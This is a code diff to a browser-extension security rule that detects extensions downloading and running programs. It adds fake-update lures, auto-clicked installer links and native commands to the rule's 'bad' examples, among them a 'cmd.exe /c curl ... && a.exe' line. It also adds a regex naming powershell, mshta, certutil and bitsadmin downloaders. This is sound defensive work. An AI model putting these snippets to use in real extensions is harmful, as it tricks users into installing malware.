@@ -6,10 +6,13 @@ import {
   Op,
   opOf,
   pattern,
+  posOf,
   propertyOf,
+  receiverOf,
   type ScriptFacts,
   writesOf,
 } from '../../facts/javascript/query.ts';
+import type { Facts } from '../../facts.ts';
 import { defineRule, type Hit } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
 import { tagOf } from './tagOf.ts';
@@ -21,6 +24,12 @@ import { runsInPages } from './places.ts';
 import { functionOf } from '../../program/functionOf.ts';
 import { callsWithin } from '../../program/callsWithin.ts';
 import { first } from '../../facts/first.ts';
+import { functionAt } from '../../program/functionAt.ts';
+import { openedPages } from '../../program/openedPages.ts';
+import { happensByItself } from '../../program/unasked.ts';
+import { eventOf } from '../../verdict/comesUnasked.ts';
+import { elementsPut } from './elementsPut.ts';
+import { isStrangers } from './isStrangers.ts';
 import { say } from '../../../texts/say.ts';
 
 const PROGRAM = /\.(exe|msi|scr|bat|cmd|ps1|vbs|hta|jar|dmg|pkg|app|deb|rpm|sh|appimage|lnk|iso|apk)(\?|#|$)/i;
@@ -32,6 +41,9 @@ function isMadeHere(script: ScriptFacts, address: number): boolean {
     isMadeBy(script, address, /^(?:URL\.createObjectURL|FileReader(?:\(\)(?:\.result)?)?)$/)
   );
 }
+
+/** Names of archives with something to install in them. */
+const INSTALLS = /(?:update|setup|install)[^/]{0,40}\.(?:zip|rar|7z|tgz|tar\.gz|img)$/i;
 
 /** Whether the script holds the name of a program: what it downloads and opens is chosen among such. */
 const namesProgram = (script: ScriptFacts): boolean =>
@@ -51,6 +63,8 @@ export const opensDownloadedProgram = defineRule({
   remedy: 'Link to the page where users can download the program themselves.',
   check: checkScripts(function* (judged) {
     yield* linkedPrograms(judged);
+    yield* openedPrograms(judged);
+    yield* nativeCommands(judged);
     yield* assembledPrograms(judged);
     yield* replacedDownloads(judged);
     yield* downloads(judged);
@@ -58,9 +72,27 @@ export const opensDownloadedProgram = defineRule({
   examples: {
     bad: [
       backgroundExample(
+        'chrome.runtime.connectNative("com.helper").postMessage({ run: "cmd.exe /c curl https://x.example/a.exe -o a.exe && a.exe" });',
+      ),
+      backgroundExample(
         'const list = () => fetch("https://mirror.example/l").then((r) => r.json()).then((all) => chrome.storage.local.set({ all })); chrome.alarms.onAlarm.addListener(list); const change = { async begin(item) { const { all } = await chrome.storage.local.get("all"); await chrome.downloads.cancel(item.id); await chrome.downloads.download({ url: all[item.mime] }); } }; chrome.downloads.onCreated.addListener((item) => change["begin"](item));',
       ),
       backgroundExample('chrome.downloads.download({ url: "https://x.example/setup.exe", filename: "update.exe" });'),
+      backgroundExample(
+        'class Helper { constructor() { this.from = "https://x.example/setup.msi"; } get() { chrome.downloads.download({ url: this.from }); } } const helper = new Helper(); chrome.alarms.onAlarm.addListener(() => helper.get());',
+      ),
+      backgroundExample(
+        'chrome.runtime.onInstalled.addListener(() => chrome.tabs.create({ url: "https://x.example/setup.exe" }));',
+      ),
+      contentExample(
+        'const o = document.createElement("div"); o.innerHTML = \'<h1>Your browser is out of date</h1><a href="https://x.example/ChromeSetup.exe" download>Update now</a>\'; document.body.append(o);',
+      ),
+      contentExample(
+        'const a = document.createElement("a"); a.href = "https://x.example/ChromeSetup.exe"; document.body.append(a); a.click();',
+      ),
+      contentExample(
+        'const f = document.createElement("iframe"); f.src = "https://x.example/setup.exe"; document.body.append(f);',
+      ),
       backgroundExample(
         'fetch("https://x.example/task").then((r) => r.json()).then((t) => chrome.downloads.download({ url: t.url }, (id) => chrome.downloads.open(id)));',
       ),
@@ -81,6 +113,10 @@ export const opensDownloadedProgram = defineRule({
       ),
     ],
     good: [
+      backgroundExample('chrome.runtime.sendNativeMessage("com.player", { command: "mpv", args: ["--fs", tab.url] });'),
+      backgroundExample(
+        'chrome.alarms.onAlarm.addListener(() => chrome.downloads.download({ url: "https://pictures.example/today.jpg", filename: "setup/today.jpg" }));',
+      ),
       backgroundExample(
         'chrome.downloads.onCreated.addListener(async (item) => { await chrome.downloads.cancel(item.id); chrome.downloads.download({ url: item.finalUrl, filename: "sorted/" + item.filename }); });',
       ),
@@ -104,15 +140,74 @@ export const opensDownloadedProgram = defineRule({
 /** An address behind its host, which may end like a file: `https://name.app`. */
 const pathOf = (address: string): string => address.replace(/^(?:\w+:)?\/\/[^/?#]*/, '');
 
-/** What a page opens when it is led to a program; a link that the script makes itself leads there only when it is clicked. */
+/** The claim that the browser or a part of it is old or missing, as pages that hand out programs make it. */
+const CLAIMS =
+  /(?:browser|chrome|firefox|edge|flash|java|windows|codec|font)\b[^<]{0,60}\b(?:update|upgrade|out of date|outdated|expired|missing|required)|(?:update|upgrade|outdated)\b[^<]{0,40}\b(?:browser|chrome|firefox|edge|flash|java|windows|now|required)\b/i;
+
+/** What a page opens when it is led to a program, or gets a link to one that claims what is not so. */
 function* linkedPrograms({ script, file, facts, hit }: Judged): Iterable<Hit> {
   if (!runsInPages(facts, file.path)) return;
+  const isClaimed = textsOf(script).some(({ text }) => text.length < 20_000 && CLAIMS.test(text));
+  const grave = { severity: 'critical', confidence: 'high' } as const;
   for (const write of first(writesOf(script, 'href'), 200)) {
     const to = pattern(script, write.value);
-    if (leadsOut(to) && PROGRAM.test(pathOf(to)) && tagOf(script, write.object) !== 'a')
-      yield hit(write.value, { evidence: to, message: say('links-to-program') });
+    if (!leadsOut(to) || !PROGRAM.test(pathOf(to)) || tagOf(script, write.object) === 'a') continue;
+    const isUnasked = isClaimed || happensByItself(script, write.pos);
+    yield hit(write.value, { ...(isUnasked ? grave : {}), evidence: to, message: say('links-to-program') });
+  }
+  for (const { tag, attributes, value } of elementsPut(script)) {
+    const to = attributes.get(tag === 'a' ? 'href' : 'src') ?? '';
+    if (!PROGRAM.test(pathOf(to)) || !isStrangers(facts, to)) continue;
+    if (tag === 'a' && !isClaimed && !isPressed(script, value)) continue;
+    yield hit(value, {
+      ...grave,
+      evidence: to.slice(0, 160),
+      message: say(isClaimed ? 'program-offered' : 'program-unasked'),
+    });
   }
 }
+
+/** Whether a script presses a link itself, as it starts, where it gives it its address. */
+const isPressed = (script: ScriptFacts, address: number): boolean =>
+  first(callsNamed(script, 'click'), 60).some(
+    (call) =>
+      functionAt(script, call.pos) === functionAt(script, posOf(script, address)) &&
+      tagOf(script, receiverOf(script, call)) === 'a' &&
+      happensByItself(script, call.pos),
+  );
+
+/** Programs that a tab is led to by itself. */
+function* openedPrograms({ script, facts, hit }: Judged): Iterable<Hit> {
+  for (const { call, address } of openedPages(script)) {
+    const to = pattern(script, address);
+    if (leadsOut(to) && PROGRAM.test(pathOf(to)) && isUnasked(facts, script, call))
+      yield hit(call.value, {
+        severity: 'critical',
+        confidence: 'high',
+        evidence: to,
+        message: say('program-unasked'),
+      });
+  }
+}
+
+/** A command line that fetches a program, or hides what it runs. */
+const COMMAND =
+  /\b(?:powershell|pwsh)\b.{0,80}(?:-e(?:nc\w*)?\b|iwr|iex|http)|^(?:powershell|pwsh|mshta|rundll32|certutil|bitsadmin)(?:\.exe)?$|\b(?:mshta|certutil|bitsadmin)\b.{0,80}http|\b(?:curl|wget)\b.{0,200}(?:\||&&|;)|\bcmd(?:\.exe)?\s*\/c\b/i;
+
+/** A program on this computer that is told a command line. */
+function* nativeCommands({ script, hit }: Judged): Iterable<Hit> {
+  const [call] = callsOf(script, 'chrome.runtime.sendNativeMessage', 'chrome.runtime.connectNative');
+  const command = call && textsOf(script).find(({ text }) => text.length < 2000 && COMMAND.test(text));
+  if (command !== undefined)
+    yield hit(command.value, {
+      severity: 'critical',
+      confidence: 'high',
+      message: say('native-command', command.text.slice(0, 80)),
+    });
+}
+
+const isUnasked = (facts: Facts, script: ScriptFacts, call: Call): boolean =>
+  eventOf(facts, script, call.pos) !== undefined;
 
 /** A file that the script puts together itself and gives a program's name. */
 function* assembledPrograms({ script, hit }: Judged): Iterable<Hit> {
@@ -184,7 +279,14 @@ function openedDownload({ script, facts }: Judged, call: Call): Weight | undefin
 /** A download that waits for the person to open it. */
 function savedDownload({ script, facts }: Judged, call: Call): Weight | undefined {
   const address = propertyOf(script, call.args[0] ?? 0, 'url');
-  if (isProgram(script, call)) return isSentByServer(facts, script, address) ? { confidence: 'high' } : {};
+  if (isProgram(script, call)) {
+    if (isUnasked(facts, script, call))
+      return { severity: 'critical', confidence: 'high', message: say('program-unasked') };
+    return isSentByServer(facts, script, address) ? { confidence: 'high' } : {};
+  }
+  const name = pattern(script, propertyOf(script, call.args[0] ?? 0, 'filename'));
+  if (INSTALLS.test(name) && isStrangers(facts, pattern(script, address)) && isUnasked(facts, script, call))
+    return { severity: 'critical', message: say('program-unasked') };
   return isFromServer(facts, script, address) && !isMadeHere(script, address) && hidesDownloads(script)
     ? { message: say('server-decides-hidden-download') }
     : undefined;
